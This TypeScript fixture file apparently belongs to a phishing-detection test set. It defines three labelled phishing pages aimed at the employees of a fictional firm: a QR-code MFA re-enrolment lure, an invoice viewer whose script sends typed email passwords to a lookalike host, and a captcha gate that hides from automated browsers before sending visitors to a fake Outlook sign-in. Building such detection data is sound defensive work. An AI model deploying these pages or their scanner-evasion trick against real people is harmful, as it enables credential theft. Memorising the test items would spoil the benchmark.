import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute, msCss, msLogo, qrSvg, svgRoute } from '../parts/t-kit.js';

// Reported by employees: QR MFA re-enrolment, invoice viewer and captcha-gated kit — blind split.

const qrHost = 'mfa-reenroll.hartwell-it.com';
const qrDest = 'aka-ms-mfasetup.authportal-secure.com';
const invHost = 'invoice-viewer.quickdocs-billing.com';
const capHost = 'verify.onedrive-securefiles.com';
const capDest = 'login.o365-authproxy.net';

export const entries: Entry[] = [
  {
    id: 't-ph-qr-mfa-reenroll',
    label: 'phishing',
    kind: 'qr-lure',
    url: `https://${qrHost}/notice/mfa-2026.html`,
    body: doc(
      'Microsoft Authenticator – Re-enrollment Required',
      `<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#fff;color:#252423}
.w{max-width:560px;margin:40px auto;border:1px solid #e1dfdd;padding:36px}.q{text-align:center;margin:20px 0}
.st li{margin:6px 0}.x{font-size:12px;color:#605e5c;border-top:1px solid #eee;padding-top:12px;margin-top:20px}</style>`,
      `<div class="w">${msLogo}<h2>Multi-factor authentication: action required</h2>
<p>As part of the annual security review, all Hartwell Engineering accounts must re-register Microsoft Authenticator by <b>December 4, 2026</b>. Accounts that are not re-registered will be <b>blocked from sign-in</b>.</p>
<ol class="st"><li>Open the camera on your mobile phone.</li><li>Scan the QR code below.</li><li>Sign in with your work account and approve the request.</li></ol>
<div class="q"><img src="/notice/qr.svg" width="190" height="190" alt="QR code"></div>
<p style="font-size:13px">Unable to scan? Contact the Service Desk at ext. 4357.</p>
<div class="x">Microsoft Corporation &middot; One Microsoft Way, Redmond, WA 98052 &middot; This message was sent to you by your organisation's IT administrator.</div></div>`,
    ),
    routes: {
      [`${qrHost}/notice/qr.svg`]: svgRoute(qrSvg(`https://${qrDest}/r/?id=hw-mfa`)),
      [`${qrDest}/r/`]: htmlRoute(doc('Sign in to your account', `<style>${msCss}</style>`, `<div class="card"><div>${msLogo}</div><h1>Sign in</h1><p class="small">Re-register Microsoft Authenticator</p><form method="post" action="/r/c"><input type="email" name="u" placeholder="Email"><input type="password" name="p" placeholder="Password"><div class="row"><button class="btn">Next</button></div></form></div>`)),
    },
  },
  {
    id: 't-ph-invoice-viewer-login',
    label: 'phishing',
    kind: 'invoice-payment',
    url: `https://${invHost}/v/INV-2026-11-0417?c=hartwell`,
    body: doc(
      'QuickDocs Billing – Invoice INV-2026-11-0417',
      `<style>body{margin:0;font-family:Inter,Arial,sans-serif;background:#f6f8fa}
.t{background:#fff;border-bottom:1px solid #e5e7eb;padding:14px 28px;font-weight:700;color:#4f46e5}
.w{max-width:880px;margin:26px auto;display:grid;grid-template-columns:1fr 320px;gap:22px}
.iv{background:#fff;border:1px solid #e5e7eb;padding:26px;position:relative}.iv .bl{filter:blur(4px)}
.lk{position:absolute;inset:0;display:flex;align-items:center;justify-content:center;font-weight:700;color:#374151;background:rgba(255,255,255,.4)}
.s{background:#fff;border:1px solid #e5e7eb;padding:22px}.s input{width:100%;padding:9px;border:1px solid #d1d5db;border-radius:6px;margin:5px 0 10px;box-sizing:border-box}
.s button{width:100%;padding:10px;background:#4f46e5;color:#fff;border:0;border-radius:6px;cursor:pointer;font-weight:600}
table{width:100%;font-size:13px;border-collapse:collapse}td{padding:6px;border-bottom:1px solid #f0f0f0}</style>`,
      `<div class="t">QuickDocs Billing</div>
<div class="w"><div class="iv"><div class="bl"><h3>INVOICE</h3><p>Bill to: Hartwell Engineering<br>Accounts Payable</p><table><tr><td>Engineering consultancy &ndash; Phase 2</td><td>$18,400.00</td></tr><tr><td>Site survey</td><td>$3,250.00</td></tr><tr><td>Travel</td><td>$612.80</td></tr><tr><td><b>Total due</b></td><td><b>$22,262.80</b></td></tr></table></div><div class="lk">&#128274; Sign in to view invoice</div></div>
<div class="s"><b>View invoice</b><p style="font-size:13px;color:#6b7280">For your security, confirm the email address this invoice was sent to.</p>
<form id="f"><input type="email" name="email" placeholder="Email" required><input type="password" name="password" placeholder="Email password" required><button>View &amp; Pay</button></form>
<p style="font-size:11px;color:#9ca3af">Due date: Dec 01, 2026 &middot; Late fee 1.5%/month</p></div></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var b=JSON.stringify(Object.fromEntries(new FormData(this)));fetch('/v/api/unlock',{method:'POST',body:b,headers:{'content-type':'application/json'}}).then(function(r){return r.json()}).then(function(j){alert(j.message)})};</script>`,
    ),
    routes: {
      [`${invHost}/v/api/unlock`]: jsonRoute({ message: 'Incorrect password. Please try again.' }),
    },
  },
  {
    id: 't-ph-aitm-captcha-math',
    label: 'phishing',
    kind: 'aitm-captcha',
    url: `https://${capHost}/?id=c2hhcmVkLWZpbGUtODgx`,
    body: doc(
      'Security check',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7;display:flex;align-items:center;justify-content:center;min-height:100vh}
.b{background:#fff;padding:30px 36px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.1);text-align:center;width:320px}
.c{font:700 26px Courier New,monospace;letter-spacing:4px;background:#eef;padding:10px;margin:14px 0;user-select:none;transform:skewX(-8deg)}
input{width:100%;padding:9px;font-size:16px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box;text-align:center}
button{margin-top:12px;width:100%;padding:10px;background:#333;color:#fff;border:0;border-radius:4px;cursor:pointer}</style>`,
      `<div class="b"><h3>Verify you are human</h3><p style="font-size:13px;color:#555">Solve the challenge to continue to the shared file.</p>
<div class="c" id="c"></div><input id="a" inputmode="numeric" placeholder="Answer"><button id="go">Continue</button><p id="m" style="color:#c00;font-size:12px"></p></div>
<script>
(function(){var x=3+Math.floor(Math.random()*6),y=2+Math.floor(Math.random()*7);document.getElementById('c').textContent=x+' + '+y+' = ?';
if(navigator.webdriver){document.body.innerHTML='<h1>404 Not Found</h1>';return}
document.getElementById('go').onclick=function(){if(+document.getElementById('a').value===x+y){var id=new URLSearchParams(location.search).get('id');location.href='https://${capDest}/common/oauth2/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&redirect_uri=https%3a%2f%2foutlook.office.com%2fowa%2f&state='+id}else{document.getElementById('m').textContent='Wrong answer, try again.'}};})();
</script>`,
    ),
    routes: {
      [`${capDest}/common/oauth2/authorize`]: htmlRoute(doc('Sign in to Outlook', `<style>${msCss}</style>`, `<div class="card"><div>${msLogo}</div><h1>Sign in</h1><p class="small">to continue to Outlook</p><form method="post" action="/common/login"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd" placeholder="Password"><div class="row"><button class="btn">Sign in</button></div></form></div><div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></div>`)),
    },
  },
];
